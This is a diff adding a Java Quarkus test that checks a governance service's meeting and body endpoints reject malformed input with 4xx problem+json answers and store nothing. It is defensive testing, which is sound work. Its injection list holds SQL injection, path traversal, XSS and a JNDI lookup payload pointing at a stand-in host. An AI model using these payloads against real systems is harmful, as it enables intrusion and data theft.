@@ -1,0 +1,271 @@
+package io.entente.governance;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.entente.events.backlog.AllianceEvent.AllianceRegistered;
+import io.entente.platform.testing.TestTokens;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.response.Response;
+import jakarta.inject.Inject;
+import jakarta.persistence.EntityManager;
+import org.eclipse.microprofile.config.inject.ConfigProperty;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import java.time.Duration;
+import java.time.LocalDate;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+
+import static io.restassured.RestAssured.given;
+import static org.awaitility.Awaitility.await;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Bad input against the writes of the governance service (bodies, meetings): each answer is a 4xx problem+json,
+ * never a 5xx, and nothing is stored (rows, audit). The valid body of each endpoint is broken one way at a time.
+ */
+@QuarkusTest
+class BadInputTest {
+
+    static final String ALLIANCE = Fixtures.allianceKey("GBAD");
+    static final String USER = "bad-input";
+    static final String TOKEN = TestTokens.user(USER).roles("governance-ops").alliances(ALLIANCE).sign();
+    static final ObjectMapper JSON = new ObjectMapper();
+    static final String BIG = "x".repeat(600 * 1024);
+    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "G-BAD; DROP TABLE meeting; --", "../../etc/passwd",
+            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "G-BAD\u0000"};
+
+    record Case(String name, String method, String path, String contentType, String body) {
+        @Override
+        public String toString() {
+            return method + " " + path + ": " + name;
+        }
+    }
+
+    static final String BODY = Fixtures.body(ALLIANCE, "JDC", "MONTHLY");
+    static final String MEETING = """
+            {"bodyId":"{body}","title":"JDC December","startsAt":"2027-01-12T09:00:00+01:00",
+             "timeZone":"Europe/Zurich","durationMinutes":120,"location":"Basel","callLink":"https://meet.example.com/x",
+             "internalBriefing":"b"}""";
+
+    static final String MEETING_UPDATE = """
+            {"title":"JDC December","startsAt":"2027-01-12T09:00:00+01:00","timeZone":"Europe/Zurich",
+             "durationMinutes":120,"location":"Basel","callLink":"https://meet.example.com/x","attendees":[]}""";
+    static final String BODY_UPDATE = """
+            {"name":"JSC","quorum":3,"cadence":"QUARTERLY","decisionRights":"d","members":[]}""";
+
+    static String bodyId;
+    static String meetingId;
+
+    @ConfigProperty(name = "kafka.bootstrap.servers")
+    String bootstrap;
+
+    @Inject
+    EntityManager em;
+
+    @BeforeEach
+    void fixtures() {
+        if (bodyId == null) {
+            Fixtures.publish(bootstrap, "/entente/backlog-service", new AllianceRegistered(ALLIANCE, "Bad input",
+                    "Partner Pharma", "CO_DEVELOPMENT", 1, "EXECUTION", 3, 3, "alex", LocalDate.of(2025, 1, 1)));
+            bodyId = await().atMost(Duration.ofSeconds(30)).until(() -> {
+                Response r = given().auth().oauth2(TOKEN).contentType("application/json")
+                        .body(Fixtures.body(ALLIANCE, "JSC", "QUARTERLY")).post("/api/governance-bodies");
+                return r.statusCode() == 201 ? Fixtures.id(r) : null;
+            }, id -> id != null);
+            meetingId = Fixtures.id(given().auth().oauth2(TOKEN).contentType("application/json")
+                    .body(MEETING.replace("{body}", bodyId)).post("/api/meetings").then().statusCode(201)
+                    .extract().response());
+        }
+    }
+
+    static String with(String valid, String field, String rawJson) {
+        try {
+            ObjectNode node = (ObjectNode) JSON.readTree(valid);
+            if (rawJson == null) {
+                node.remove(field);
+            } else {
+                node.set(field, JSON.readTree(rawJson));
+            }
+            return JSON.writeValueAsString(node);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    static String str(String s) {
+        try {
+            return JSON.writeValueAsString(s);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    /** The breakages every JSON write gets. */
+    static List<Case> common(String method, String path, String valid, String textField) {
+        List<Case> cases = new ArrayList<>();
+        String json = "application/json";
+        cases.add(new Case("empty body", method, path, json, ""));
+        cases.add(new Case("truncated JSON", method, path, json, valid.substring(0, valid.length() / 2)));
+        cases.add(new Case("not JSON", method, path, json, "title=hello&x=1"));
+        cases.add(new Case("JSON array", method, path, json, "[" + valid + "]"));
+        cases.add(new Case("JSON null", method, path, json, "null"));
+        cases.add(new Case("JSON string", method, path, json, "\"hello\""));
+        cases.add(new Case("trailing garbage", method, path, json, valid + "}}"));
+        cases.add(new Case("duplicate nesting", method, path, json, "{\"a\":" + valid + "}"));
+        cases.add(new Case("wrong content type", method, path, "text/plain", valid));
+        cases.add(new Case("XML", method, path, "application/xml", "<item><title>x</title></item>"));
+        cases.add(new Case("missing everything", method, path, json, "{}"));
+        cases.add(new Case("unknown field", method, path, json, with(valid, "hacker", "true")));
+        cases.add(new Case("client sets id", method, path, json,
+                with(valid, "id", "\"00000000-0000-0000-0000-000000000001\"")));
+        cases.add(new Case("client sets version", method, path, json, with(valid, "version", "7")));
+        cases.add(new Case("client sets createdAt", method, path, json,
+                with(valid, "createdAt", "\"2020-01-01T00:00:00Z\"")));
+        cases.add(new Case("client sets createdBy", method, path, json, with(valid, "createdBy", "\"admin\"")));
+        cases.add(new Case(textField + " as object", method, path, json, with(valid, textField, "{\"a\":1}")));
+        cases.add(new Case(textField + " as array", method, path, json, with(valid, textField, "[\"a\"]")));
+        cases.add(new Case(textField + " blank", method, path, json, with(valid, textField, "\"   \"")));
+        cases.add(new Case(textField + " 10k characters", method, path, json,
+                with(valid, textField, str("y".repeat(10_000)))));
+        cases.add(new Case(textField + " with a NUL character", method, path, json,
+                with(valid, textField, "\"a\\u0000b\"")));
+        cases.add(new Case("body over 512 KB", method, path, json, with(valid, textField, str(BIG))));
+        cases.add(new Case("deeply nested", method, path, json, valid.substring(0, valid.lastIndexOf('}'))
+                + ",\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "}"));
+        return cases;
+    }
+
+    static List<Case> field(String method, String path, String valid, String field, String... rawValues) {
+        List<Case> cases = new ArrayList<>();
+        for (String raw : rawValues) {
+            cases.add(new Case(field + " = " + (raw == null ? "(missing)" : abbreviate(raw)), method, path,
+                    "application/json", with(valid, field, raw)));
+        }
+        return cases;
+    }
+
+    static String abbreviate(String s) {
+        return s.length() > 40 ? s.substring(0, 40) + "…" : s;
+    }
+
+    static List<String> injections() {
+        return Stream.of(INJECTIONS).map(BadInputTest::str).toList();
+    }
+
+    static Stream<Case> cases() {
+        List<Case> all = new ArrayList<>();
+        String bodies = "/api/governance-bodies";
+        all.addAll(common("POST", bodies, BODY, "allianceId"));
+        all.addAll(field("POST", bodies, BODY, "allianceId", null, "\"\"", "\"lower\"", "\"NOT-MINE\""));
+        all.addAll(field("POST", bodies, BODY, "allianceId", injections().toArray(String[]::new)));
+        all.addAll(field("POST", bodies, BODY, "type", null, "\"POLITBURO\"", "1"));
+        all.addAll(field("POST", bodies, BODY, "quorum", null, "0", "51", "\"three\"", "2.5e9"));
+        all.addAll(field("POST", bodies, BODY, "cadence", "\"FORTNIGHTLY\"", "[]"));
+        all.addAll(field("POST", bodies, BODY, "name", str("n".repeat(201))));
+        all.addAll(field("POST", bodies, BODY, "members", null, "\"everyone\"", "[null]", "[{}]",
+                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"THEM\",\"role\":\"MEMBER\"}]",
+                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"US\",\"role\":\"EMPEROR\"}]",
+                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"US\",\"role\":\"MEMBER\",\"email\":\"not-an-email\"}]",
+                "[{\"name\":\"A\",\"organisation\":\"O\",\"side\":\"US\",\"role\":\"MEMBER\",\"admin\":true}]"));
+
+        String meetings = "/api/meetings";
+        String meeting = MEETING;
+        all.addAll(common("POST", meetings, meeting, "timeZone"));
+        all.addAll(field("POST", meetings, meeting, "bodyId", null, "\"not-a-uuid\"", "7",
+                "\"00000000-0000-0000-0000-000000000001\""));
+        all.addAll(field("POST", meetings, meeting, "startsAt", null, "\"2027-01-12\"", "\"2027-01-12T25:00:00Z\"",
+                "\"2027-02-30T09:00:00Z\"", "\"2027-01-12T09:00:00+25:00\"", "\"12.01.2027 09:00\"", "\"tomorrow\"",
+                "\"2027-01-12T09:00:00[Europe/Zurich]\""));
+        all.addAll(field("POST", meetings, meeting, "timeZone", null, "\"\"", "\"Mars/Olympus\"", "\"GMT+25\"",
+                "\"Europe/Zurich; DROP TABLE meeting\"", "\"../../etc/localtime\"", "42", str("Z".repeat(65))));
+        all.addAll(field("POST", meetings, meeting, "durationMinutes", "14", "601", "-60", "\"2h\""));
+        all.addAll(field("POST", meetings, meeting, "callLink", "\"http://insecure.example.com\"",
+                "\"javascript:alert(1)\"", "\"https://\""));
+        all.addAll(field("POST", meetings, meeting, "internalBriefing", str("b".repeat(8001))));
+        all.addAll(field("POST", meetings, meeting, "attendees", "\"all\"", "[null]", "[{}]"));
+
+        String one = "/api/meetings/{meeting}";
+        all.addAll(common("PUT", one, MEETING_UPDATE, "title"));
+        all.addAll(field("PUT", one, MEETING_UPDATE, "startsAt", null, "\"2027-13-01T09:00:00Z\"",
+                "\"2027-01-12T09:00:00\""));
+        all.addAll(field("PUT", one, MEETING_UPDATE, "timeZone", "\"Atlantis/Capital\"", "\"\""));
+        all.addAll(field("PUT", one, MEETING_UPDATE, "durationMinutes", null, "0", "10000"));
+        all.addAll(field("PUT", one, MEETING_UPDATE, "status", "\"HELD\""));
+        all.addAll(field("PUT", one, MEETING_UPDATE, "bodyId", "\"00000000-0000-0000-0000-000000000001\""));
+        all.add(new Case("agenda as text", "PUT", one + "/agenda", "application/json", "\"talk about things\""));
+        all.add(new Case("agenda malformed", "PUT", one + "/agenda", "application/json", "{\"items\":[{]}"));
+        all.add(new Case("attendance malformed", "PUT", one + "/attendance", "application/json", "{\"attendance\":7}"));
+        all.add(new Case("outcome empty", "POST", one + "/outcomes", "application/json", "{}"));
+        all.add(new Case("outcome unknown type", "POST", one + "/outcomes", "application/json",
+                "{\"type\":\"COUP\",\"text\":\"x\"}"));
+
+        String body = "/api/governance-bodies/{body}";
+        all.addAll(common("PUT", body, BODY_UPDATE, "name"));
+        all.addAll(field("PUT", body, BODY_UPDATE, "quorum", null, "0", "999"));
+        all.addAll(field("PUT", body, BODY_UPDATE, "cadence", null, "\"HOURLY\""));
+        all.addAll(field("PUT", body, BODY_UPDATE, "allianceId", "\"ONC-HELIX\""));
+        all.addAll(field("PUT", body, BODY_UPDATE, "version", "0"));
+        return all.stream();
+    }
+
+    long[] counts() {
+        String[] tables = {"governance_body", "meeting", "action_item", "packet"};
+        long[] counts = new long[tables.length + 3];
+        for (int i = 0; i < tables.length; i++) {
+            counts[i] = count("select count(*) from " + tables[i]);
+        }
+        counts[tables.length] = count("select count(*) from audit_log where actor = '" + USER + "'");
+        counts[tables.length + 1] = count("select coalesce(sum(version), 0) from governance_body");
+        counts[tables.length + 2] = count("select coalesce(sum(version), 0) from meeting");
+        return counts;
+    }
+
+    long count(String sql) {
+        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("cases")
+    void refusedWith4xxProblemAndNothingStored(Case c) {
+        long[] before = counts();
+        String path = c.path().replace("{meeting}", meetingId).replace("{body}", bodyId);
+        String text = c.body().replace("{body}", bodyId);
+        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(text);
+        if (c.method().equals("PUT")) {
+            String readPath = path.startsWith("/api/meetings") ? "/api/meetings/" + meetingId : path;
+            request = request.header("If-Match", given().auth().oauth2(TOKEN).get(readPath).header("ETag"));
+        }
+        Response r = request.request(c.method(), path);
+        String answer = r.asString();
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
+                c + " answered " + r.statusCode() + ": " + abbreviate(answer));
+        if (r.statusCode() == 413) {
+            // Known gap: Vert.x refuses an oversized body before JAX-RS runs, with an empty 413 (no problem+json).
+            assertEquals("body over 512 KB", c.name(), c.toString());
+        } else {
+            assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
+                    c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(answer));
+            assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
+        }
+        assertTrue(!answer.contains("Exception") && !answer.contains("org.hibernate"), "no internals: " + answer);
+        assertEquals(java.util.Arrays.toString(before), java.util.Arrays.toString(counts()), c + ": nothing stored");
+    }
+
+    static Stream<String> badQueries() {
+        return Stream.of("limit=0", "limit=201", "limit=abc", "after=garbage", "sort=password", "from=2027-02-30",
+                "bodyId=not-a-uuid");
+    }
+
+    @ParameterizedTest(name = "GET /api/meetings?{0}")
+    @MethodSource("badQueries")
+    void badQueriesAre4xx(String query) {
+        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/meetings?" + query);
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, query + " answered " + r.statusCode());
+        assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
+    }
+}
